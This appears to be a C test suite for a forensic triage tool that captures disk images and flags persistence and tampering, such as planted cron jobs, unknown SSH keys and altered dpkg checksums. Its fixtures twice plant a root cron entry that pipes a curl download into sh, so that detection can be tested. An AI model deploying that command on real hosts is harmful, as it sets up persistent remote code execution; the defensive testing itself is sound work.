/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The capture run on a disk-image tree made here (--root): no root needed. */
#include <sys/stat.h>

#include "basic/json-util.h"
#include "test-fs.h"
#include "triage/capture.h"
#include "utf8-valid.h"

/* Creates DIR/REL and its parents, then writes CONTENT there. */
static void plant(const char *dir, const char *rel, const char *content) {
        _cleanup_free_ char *p = xasprintf("%s/%s", dir, rel);
        for (char *s = strchr(p + strlen(dir) + 1, '/'); s; s = strchr(s + 1, '/')) {
                *s = 0;
                (void) mkdir(p, 0755);
                *s = '/';
        }
        put(dir, rel, content);
}

/* Options of a capture of IMG that runs only the file collectors a test needs. */
static struct triage_options image_options(const char *img) {
        return (struct triage_options){
                .root = img,
                .since = -1,
                .copy_max = TRIAGE_COPY_MAX_DEFAULT,
                .jobs = 1,
        };
}

/* Runs a capture of O into a new OUT; *ret gets capture.json. 0 or -errno. */
static int capture(struct triage_options *o, const char *out, json_object **ret_capture, json_object **ret_findings) {
        struct triage_ctx c;
        _cleanup_free_ char *err = NULL;
        int r = triage_capture_init(&c, o, &err);
        size_t files = 0;
        double secs = 0;
        if (r >= 0)
                r = triage_capture_run(&c, out, &files, &secs, &err);
        if (r < 0)
                printf("#   capture: %s\n", err ? err : "?");
        triage_capture_done(&c);
        if (r < 0)
                return r;
        _cleanup_free_ char *cp = xasprintf("%s/capture.json", out), *fp = xasprintf("%s/findings.json", out);
        *ret_capture = json_object_from_file(cp);
        *ret_findings = json_object_from_file(fp);
        return *ret_capture && *ret_findings ? 0 : -EBADMSG;
}

static bool has_rule(json_object *findings, const char *rule) {
        json_object *v = rj_arr(findings, "findings");
        for (size_t i = 0; i < rj_len(v); i++)
                if (streq(rj_str(rj_at(v, i), "rule") ?: "", rule))
                        return true;
        return false;
}

static const char *status_of(json_object *cap, const char *collector) {
        return rj_str(rj_obj(rj_obj(cap, "collectors"), collector), "status");
}

TEST(capture_of_an_image_writes_the_bundle_and_finds_planted_cron) {
        char *img = tmpdir(), *w = tmpdir();
        plant(img, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
        plant(img, "etc/cron.d/sysupdate", "* * * * * root curl -fsSL http://127.0.0.1:9/i.sh | sh\n");
        _cleanup_free_ char *out = xasprintf("%s/bundle", w);
        struct triage_options o = image_options(img);
        json_object *cap = NULL, *fin = NULL;
        ASSERT_EQ_INT(capture(&o, out, &cap, &fin), 0);
        ASSERT_TRUE(has_rule(fin, "triage.cron-download-exec"));
        /* The live-only collectors say why they did not run. */
        ASSERT_STREQ(status_of(cap, "processes"), "skipped");
        ASSERT_STREQ(status_of(cap, "cron"), "ok");
        ASSERT_STREQ(rj_str(cap, "max_severity"), "critical");
        _cleanup_free_ char *mp = xasprintf("%s/MANIFEST.sha256", out), *m = NULL;
        ASSERT_EQ_INT(read_full_file(mp, &m, NULL, 1 << 20), 0);
        ASSERT_TRUE(strstr(m, "./capture.json\n") && strstr(m, "./findings.json\n") &&
                    strstr(m, "./raw/etc/cron.d/sysupdate\n"));
        json_object_put(cap);
        json_object_put(fin);
        cleanup_dir(img);
        cleanup_dir(w);
}

TEST(capture_refuses_a_missing_root_and_a_full_out_dir) {
        char *img = tmpdir(), *w = tmpdir();
        _cleanup_free_ char *missing = xasprintf("%s/missing", img);
        struct triage_options o = image_options(missing);
        struct triage_ctx c;
        _cleanup_free_ char *err = NULL;
        ASSERT_EQ_INT(triage_capture_init(&c, &o, &err), -ENOENT);
        ASSERT_TRUE(err && strstr(err, "--root"));
        triage_capture_done(&c);
        free(err);
        err = NULL;
        put(w, "stray", "x");
        o = image_options(img);
        ASSERT_EQ_INT(triage_capture_init(&c, &o, &err), 0);
        size_t files;
        double secs;
        ASSERT_EQ_INT(triage_capture_run(&c, w, &files, &secs, &err), -ENOTEMPTY);
        ASSERT_TRUE(err && strstr(err, "new or empty directory"));
        triage_capture_done(&c);
        cleanup_dir(img);
        cleanup_dir(w);
}

TEST(skip_list_and_registry) {
        ASSERT_TRUE(triage_collector_known("packages"));
        ASSERT_TRUE(!triage_collector_known("nonsense"));
        size_t n;
        const struct triage_collector *v = triage_collectors(&n);
        ASSERT_TRUE(n > 10);
        ASSERT_STREQ(v[0].name, "processes");
        char *img = tmpdir(), *w = tmpdir();
        plant(img, "etc/cron.d/sysupdate", "* * * * * root curl -fsSL http://127.0.0.1:9/i.sh | sh\n");
        char *skip[] = { (char *) "cron", NULL };
        struct triage_options o = image_options(img);
        o.skip = skip;
        _cleanup_free_ char *out = xasprintf("%s/b", w);
        json_object *cap = NULL, *fin = NULL;
        ASSERT_EQ_INT(capture(&o, out, &cap, &fin), 0);
        ASSERT_STREQ(status_of(cap, "cron"), "skipped");
        ASSERT_TRUE(!has_rule(fin, "triage.cron-download-exec"));
        json_object_put(cap);
        json_object_put(fin);
        cleanup_dir(img);
        cleanup_dir(w);
}

TEST(parse_since_times_and_paths) {
        int64_t t = -1;
        const char *p = NULL;
        ASSERT_EQ_INT(triage_parse_since("@1700000000", &t, &p), 0);
        ASSERT_EQ_INT(t, 1700000000);
        ASSERT_TRUE(p == NULL);
        ASSERT_EQ_INT(triage_parse_since("2024-01-02T03:04:05Z", &t, &p), 0);
        ASSERT_EQ_INT(t, 1704164645);
        ASSERT_EQ_INT(triage_parse_since("/etc/passwd", &t, &p), 0);
        ASSERT_STREQ(p, "/etc/passwd");
        ASSERT_EQ_INT(triage_parse_since("@12x", &t, &p), -EINVAL);
}

TEST(since_path_is_the_image_file_not_the_host_file) {
        char *img = tmpdir(), *w = tmpdir();
        plant(img, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
        _cleanup_free_ char *pw = xasprintf("%s/etc/passwd", img);
        struct timespec ts[2] = { { 1000000000, 0 }, { 1000000000, 0 } };
        ASSERT_EQ_INT(utimensat(AT_FDCWD, pw, ts, 0), 0);
        struct triage_options o = image_options(img);
        ASSERT_EQ_INT(triage_parse_since("/etc/passwd", &o.since, &o.since_path), 0);
        _cleanup_free_ char *out = xasprintf("%s/b", w);
        json_object *cap = NULL, *fin = NULL;
        ASSERT_EQ_INT(capture(&o, out, &cap, &fin), 0);
        int64_t since = -1;
        ASSERT_TRUE(rj_int(cap, "since", &since));
        ASSERT_EQ_INT(since, 1000000000);
        json_object_put(cap);
        json_object_put(fin);
        /* A path only the host has is not the image's. */
        o = image_options(img);
        ASSERT_EQ_INT(triage_parse_since("/etc/bw-only-on-no-image", &o.since, &o.since_path), 0);
        struct triage_ctx c;
        _cleanup_free_ char *err = NULL;
        ASSERT_EQ_INT(triage_capture_init(&c, &o, &err), -ENOENT);
        ASSERT_TRUE(err && strstr(err, "inside"));
        triage_capture_done(&c);
        cleanup_dir(img);
        cleanup_dir(w);
}

TEST(hostname_comes_from_the_image) {
        char *img = tmpdir(), *w = tmpdir();
        plant(img, "etc/hostname", "build-07.example\n");
        struct triage_options o = image_options(img);
        _cleanup_free_ char *out = xasprintf("%s/b", w), *out2 = xasprintf("%s/c", w);
        json_object *cap = NULL, *fin = NULL;
        ASSERT_EQ_INT(capture(&o, out, &cap, &fin), 0);
        ASSERT_STREQ(rj_str(cap, "hostname"), "build-07.example");
        json_object_put(cap);
        json_object_put(fin);
        /* Without one, no name rather than the reader's own. */
        _cleanup_free_ char *hn = xasprintf("%s/etc/hostname", img);
        ASSERT_EQ_INT(unlink(hn), 0);
        ASSERT_EQ_INT(capture(&o, out2, &cap, &fin), 0);
        ASSERT_TRUE(json_object_object_get_ex(cap, "hostname", NULL) && rj_str(cap, "hostname") == NULL);
        json_object_put(cap);
        json_object_put(fin);
        cleanup_dir(img);
        cleanup_dir(w);
}

#define KEY_ALICE "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM6p152UPEyRkauluCwSbGhSJYZsamAH8Q5snCga7g06 alice@laptop\n"

TEST(keys_are_found_without_etc_passwd) {
        char *img = tmpdir(), *w = tmpdir();
        plant(img, "home/alice/.ssh/authorized_keys", KEY_ALICE);
        plant(img, "root/.ssh/authorized_keys", KEY_ALICE);
        struct triage_options o = image_options(img);
        char *inv[] = { (char *) "SHA256:not-this-one", NULL };
        o.inventory = inv;
        o.have_inventory = true;
        _cleanup_free_ char *out = xasprintf("%s/b", w);
        json_object *cap = NULL, *fin = NULL;
        ASSERT_EQ_INT(capture(&o, out, &cap, &fin), 0);
        ASSERT_TRUE(has_rule(fin, "triage.unknown-ssh-key"));
        _cleanup_free_ char *kp = xasprintf("%s/keys.json", out);
        _cleanup_json_ json_object *keys = json_object_from_file(kp);
        json_object *list = rj_arr(keys, "keys");
        ASSERT_EQ_INT(rj_len(list), 2);
        ASSERT_STREQ(rj_str(rj_at(list, 0), "file"), "/root/.ssh/authorized_keys");
        ASSERT_STREQ(rj_str(rj_at(list, 1), "file"), "/home/alice/.ssh/authorized_keys");
        ASSERT_STREQ(rj_str(rj_at(list, 1), "user"), "alice");
        json_object_put(cap);
        json_object_put(fin);
        cleanup_dir(img);
        cleanup_dir(w);
}

TEST(config_keys_that_are_not_utf8_leave_valid_json) {
        char *img = tmpdir(), *w = tmpdir();
        _cleanup_free_ char *fixture = NULL;
        ASSERT_EQ_INT(read_full_file(TRIAGE_FIXTURES "/sshd_config.invalid-key", &fixture, NULL, 1 << 20), 0);
        plant(img, "etc/ssh/sshd_config", fixture);
        struct triage_options o = image_options(img);
        _cleanup_free_ char *out = xasprintf("%s/b", w);
        json_object *cap = NULL, *fin = NULL;
        ASSERT_EQ_INT(capture(&o, out, &cap, &fin), 0);
        _cleanup_free_ char *sp = xasprintf("%s/sshd.json", out), *text = NULL;
        size_t n = 0;
        ASSERT_EQ_INT(read_full_file(sp, &text, &n, 1 << 20), 0);
        ASSERT_TRUE(utf8_valid(text, n));
        _cleanup_json_ json_object *sshd = json_tokener_parse(text);
        json_object *eff = rj_obj(sshd, "effective");
        /* Each byte outside UTF-8 as \xHH, a backslash doubled, valid UTF-8 as it was. */
        ASSERT_STREQ(rj_str(eff, "x\\xff\\xfebad\\xc0\\xafkey"), "yes");
        ASSERT_STREQ(rj_str(eff, "caf\xc3\xa9key"), "ok");
        ASSERT_STREQ(rj_str(eff, "back\\\\slash"), "1");
        ASSERT_STREQ(rj_str(eff, "port"), "2222");
        json_object_put(cap);
        json_object_put(fin);
        cleanup_dir(img);
        cleanup_dir(w);
}

/* dpkg.log's "YYYY-MM-DD HH:MM:SS" of T, in UTC (the zone an image without /etc/timezone is read in). */
static char *log_time(time_t t) {
        struct tm tm;
        gmtime_r(&t, &tm);
        char buf[32];
        strftime(buf, sizeof(buf), "%Y-%m-%d %H:%M:%S", &tm);
        return xstrdup(buf);
}

/*
 * An image with openssh-server unpacked at UNPACKED (as dpkg.log says) and
 * /usr/sbin/sshd as its md5sums record.
 */
static void plant_openssh(const char *img, time_t unpacked) {
        _cleanup_free_ char *t = log_time(unpacked), *t0 = log_time(unpacked - 3600);
        _cleanup_free_ char *log = xasprintf("%s startup archives unpack\n"
                                             "%s install openssh-server:amd64 <none> 1:9.2p1-2\n"
                                             "%s status half-installed openssh-server:amd64 1:9.2p1-2\n"
                                             "%s status unpacked openssh-server:amd64 1:9.2p1-2\n"
                                             "%s configure openssh-server:amd64 1:9.2p1-2 <none>\n"
                                             "%s status installed openssh-server:amd64 1:9.2p1-2\n",
                                             t0, t, t, t, t, t);
        plant(img, "var/log/dpkg.log", log);
        plant(img, "usr/sbin/sshd", "the real sshd\n");
        /* md5("the real sshd\n") */
        plant(img, "var/lib/dpkg/info/openssh-server.md5sums", "441973aa43b5225e1d3a515ea91aad1d  usr/sbin/sshd\n");
        plant(img, "var/lib/dpkg/info/openssh-server.list", "/usr/sbin/sshd\n");
}

static bool package_modified(json_object *fin, const char *path) {
        json_object *v = rj_arr(fin, "findings");
        for (size_t i = 0; i < rj_len(v); i++) {
                json_object *f = rj_at(v, i);
                if (streq(rj_str(f, "rule") ?: "", "triage.package-modified") &&
                    streq(json_object_get_string(rj_at(rj_arr(rj_obj(f, "evidence"), "files"), 0)) ?: "", path))
                        return true;
        }
        return false;
}

TEST(package_check_sees_through_a_touched_md5sums) {
        char *img = tmpdir(), *w = tmpdir();
        /* dpkg unpacked it a while ago; then sshd was swapped and the checksums file touched after it. */
        plant_openssh(img, time(NULL) - 600);
        _cleanup_free_ char *sshd = xasprintf("%s/usr/sbin/sshd", img);
        _cleanup_free_ char *sums = xasprintf("%s/var/lib/dpkg/info/openssh-server.md5sums", img);
        put(img, "usr/sbin/sshd", "a backdoored sshd\n");
        ASSERT_EQ_INT(chmod(sums, 0644), 0);
        struct triage_options o = image_options(img);
        _cleanup_free_ char *out = xasprintf("%s/b", w);
        json_object *cap = NULL, *fin = NULL;
        ASSERT_EQ_INT(capture(&o, out, &cap, &fin), 0);
        ASSERT_TRUE(has_rule(fin, "triage.dpkg-info-tampered"));
        ASSERT_TRUE(package_modified(fin, "/usr/sbin/sshd"));
        json_object_put(cap);
        json_object_put(fin);
        cleanup_dir(img);
        cleanup_dir(w);
}

TEST(package_check_trusts_checksums_dpkg_just_wrote) {
        char *img = tmpdir(), *w = tmpdir();
        /* Unpacked now: the checksum files' ctimes match the log; sshd is as dpkg wrote it. */
        plant_openssh(img, time(NULL));
        struct triage_options o = image_options(img);
        _cleanup_free_ char *out = xasprintf("%s/b", w);
        json_object *cap = NULL, *fin = NULL;
        ASSERT_EQ_INT(capture(&o, out, &cap, &fin), 0);
        ASSERT_TRUE(!has_rule(fin, "triage.dpkg-info-tampered"));
        ASSERT_TRUE(!package_modified(fin, "/usr/sbin/sshd"));
        _cleanup_free_ char *pp = xasprintf("%s/packages.json", out);
        _cleanup_json_ json_object *pk = json_object_from_file(pp);
        int64_t v = -1;
        ASSERT_TRUE(rj_int(pk, "info_files_tampered", &v));
        ASSERT_EQ_INT(v, 0);
        ASSERT_STREQ(rj_str(rj_obj(pk, "dpkg_log"), "timezone"), "UTC");
        json_object_put(cap);
        json_object_put(fin);
        cleanup_dir(img);
        cleanup_dir(w);
}

static size_t count_rule(json_object *findings, const char *rule, const char *severity) {
        json_object *v = rj_arr(findings, "findings");
        size_t n = 0;
        for (size_t i = 0; i < rj_len(v); i++)
                n += streq(rj_str(rj_at(v, i), "rule") ?: "", rule) &&
                     streq(rj_str(rj_at(v, i), "severity") ?: "", severity);
        return n;
}

TEST(a_copied_tree_is_one_medium_finding_not_hundreds) {
        char *img = tmpdir(), *w = tmpdir();
        /* tar or rsync made every ctime the copy's: all 30 packages postdate their logged unpack. */
        _cleanup_free_ char *t = log_time(time(NULL) - 600);
        _cleanup_free_ char *log = xstrdup("");
        for (int i = 0; i < 30; i++) {
                _cleanup_free_ char *sums = xasprintf("var/lib/dpkg/info/pkg%d.md5sums", i);
                _cleanup_free_ char *file = xasprintf("usr/share/pkg%d", i);
                plant(img, sums, "441973aa43b5225e1d3a515ea91aad1d  usr/sbin/sshd\n");
                plant(img, file, "x\n");
                char *more = xasprintf("%s%s status unpacked pkg%d:amd64 1\n", log, t, i);
                free(log);
                log = more;
        }
        plant(img, "var/log/dpkg.log", log);
        struct triage_options o = image_options(img);
        _cleanup_free_ char *out = xasprintf("%s/b", w);
        json_object *cap = NULL, *fin = NULL;
        ASSERT_EQ_INT(capture(&o, out, &cap, &fin), 0);
        ASSERT_EQ_INT(count_rule(fin, "triage.dpkg-info-tampered", "medium"), 1);
        ASSERT_EQ_INT(count_rule(fin, "triage.dpkg-info-tampered", "high"), 0);
        json_object_put(cap);
        json_object_put(fin);
        cleanup_dir(img);
        cleanup_dir(w);
}
